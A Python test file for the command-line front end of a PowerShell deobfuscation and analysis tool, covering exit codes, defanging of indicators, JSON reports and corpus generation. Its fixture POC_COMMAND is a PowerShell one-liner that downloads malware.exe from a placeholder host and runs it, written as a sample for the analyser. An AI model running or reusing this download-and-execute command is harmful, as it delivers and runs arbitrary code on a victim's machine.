"""End-to-end tests for the command-line front end."""

import io
import json
import os

from pspeel.cli import main

POC_COMMAND = (
    "(New-Object Net.WebClient).DownloadFile('http://example.com/malware.exe',"
    " 'C:\\Users\\Public\\malware.exe');"
    " Start-Process 'C:\\Users\\Public\\malware.exe'"
)


def write_script(tmp_path, text, name="sample.ps1"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def test_analyze_complete_is_exit_zero(tmp_path, capsys):
    path = write_script(tmp_path, POC_COMMAND)
    rc = main(["analyze", path])
    out = capsys.readouterr().out
    assert rc == 0
    assert "status: complete" in out
    assert "pattern: down-exec" in out
    assert "final script:" in out


def test_analyze_defangs_iocs_by_default(tmp_path, capsys):
    path = write_script(tmp_path, POC_COMMAND)
    main(["analyze", path])
    out = capsys.readouterr().out
    assert "hxxp://example[.]com/malware.exe" in out
    assert "http://example.com" not in out


def test_analyze_raw_iocs_flag(tmp_path, capsys):
    path = write_script(tmp_path, POC_COMMAND)
    main(["analyze", path, "--raw-iocs"])
    out = capsys.readouterr().out
    assert "http://example.com/malware.exe" in out
    assert "hxxp" not in out


def test_analyze_aborted_is_exit_two(tmp_path, capsys):
    path = write_script(tmp_path, "Write-Output 'unterminated")
    rc = main(["analyze", path])
    out = capsys.readouterr().out
    assert rc == 2
    assert "status: aborted (syntax error" in out


def test_analyze_missing_file_is_exit_three(tmp_path, capsys):
    rc = main(["analyze", str(tmp_path / "nope.ps1")])
    err = capsys.readouterr().err
    assert rc == 3
    assert "cannot read" in err


def test_analyze_stdin_dash(tmp_path, capsys, monkeypatch):
    fake = type("FakeStdin", (), {"buffer": io.BytesIO(POC_COMMAND.encode())})()
    monkeypatch.setattr("sys.stdin", fake)
    rc = main(["analyze", "-"])
    out = capsys.readouterr().out
    assert rc == 0
    assert "source: <stdin>" in out


def test_analyze_json_report_is_stable(tmp_path, capsys):
    path = write_script(tmp_path, POC_COMMAND)
    first = tmp_path / "a.json"
    second = tmp_path / "b.json"
    main(["analyze", path, "--json", str(first)])
    main(["analyze", path, "--json", str(second)])
    capsys.readouterr()
    assert first.read_bytes() == second.read_bytes()
    report = json.loads(first.read_text(encoding="utf-8"))
    assert report["status"] == "complete"
    assert report["pattern"] == "down-exec"
    assert report["sha256"]


def test_analyze_bad_max_layers(tmp_path, capsys):
    path = write_script(tmp_path, POC_COMMAND)
    rc = main(["analyze", path, "--max-layers", "0"])
    assert rc == 3
    assert "--max-layers" in capsys.readouterr().err


def test_usage_errors_are_exit_three(capsys):
    assert main([]) == 3
    assert main(["frobnicate"]) == 3
    capsys.readouterr()


def test_help_is_exit_zero(capsys):
    assert main(["--help"]) == 0
    assert "analyze" in capsys.readouterr().out


def test_gen_then_corpus_roundtrip(tmp_path, capsys):
    corpus_dir = tmp_path / "corpus"
    rc = main(["gen", str(corpus_dir), "--count", "6", "--seed", "3"])
    assert rc == 0
    assert (corpus_dir / "labels.json").exists()
    assert len(list(corpus_dir.glob("*.ps1"))) == 6
    capsys.readouterr()

    stats_path = tmp_path / "stats.json"
    csv_dir = tmp_path / "csv"
    rc = main(["corpus", str(corpus_dir), "--jobs", "2",
               "--stats", str(stats_path), "--csv", str(csv_dir)])
    captured = capsys.readouterr()
    assert rc == 0
    stats = json.loads(stats_path.read_text(encoding="utf-8"))
    assert stats["total"] == 6
    assert captured.out == stats_path.read_text(encoding="utf-8")
    for name in ("layers.csv", "layer_types.csv", "anti_debug.csv"):
        assert (csv_dir / name).exists()
    header = (csv_dir / "layers.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header == "layers,count"


def test_corpus_jobs_do_not_change_output(tmp_path, capsys):
    corpus_dir = tmp_path / "corpus"
    main(["gen", str(corpus_dir), "--count", "8", "--seed", "11"])
    capsys.readouterr()
    outputs = []
    for jobs in ("1", "4"):
        rc = main(["corpus", str(corpus_dir), "--jobs", jobs])
        assert rc == 0
        outputs.append(capsys.readouterr().out)
    assert outputs[0] == outputs[1]


def test_corpus_empty_dir_is_exit_three(tmp_path, capsys):
    empty = tmp_path / "empty"
    empty.mkdir()
    rc = main(["corpus", str(empty)])
    assert rc == 3
    assert "no .ps1 files" in capsys.readouterr().err


def test_corpus_missing_dir_is_exit_three(tmp_path, capsys):
    rc = main(["corpus", str(tmp_path / "absent")])
    assert rc == 3
    assert "not a directory" in capsys.readouterr().err


def test_corpus_skips_labels_json(tmp_path, capsys):
    corpus_dir = tmp_path / "corpus"
    main(["gen", str(corpus_dir), "--count", "3", "--seed", "0"])
    capsys.readouterr()
    rc = main(["corpus", str(corpus_dir)])
    out = capsys.readouterr().out
    assert rc == 0
    assert json.loads(out)["total"] == 3


def test_gen_bad_layer_spec_is_exit_three(tmp_path, capsys):
    rc = main(["gen", str(tmp_path / "c"), "--count", "2",
               "--layer-spec", "string:nonsense"])
    assert rc == 3
    assert "bad --layer-spec" in capsys.readouterr().err


def test_gen_fixed_layer_spec_labels(tmp_path, capsys):
    corpus_dir = tmp_path / "fixed"
    rc = main(["gen", str(corpus_dir), "--count", "4", "--seed", "5",
               "--layer-spec", "string:tick,base64"])
    capsys.readouterr()
    assert rc == 0
    labels = json.loads((corpus_dir / "labels.json").read_text())
    for sample in labels["samples"]:
        assert len(sample["layers"]) == 2


def test_analyze_prints_stage_techniques(tmp_path, capsys):
    script = "$u = 'http://ex' + 'ample.com/x.exe'; Write-Output $u"
    path = write_script(tmp_path, script)
    rc = main(["analyze", path])
    out = capsys.readouterr().out
    assert rc == 0
    assert "string-based" in out
    assert "concatenation" in out


def test_analyze_stores_artifacts(tmp_path, capsys):
    import base64
    noise = base64.b64encode(bytes(range(256)) * 4).decode("ascii")
    path = write_script(tmp_path, noise)
    art = tmp_path / "artifacts"
    rc = main(["analyze", path, "--artifacts", str(art)])
    capsys.readouterr()
    assert rc == 0
    stored = list(art.rglob("*.bin"))
    assert len(stored) == 1
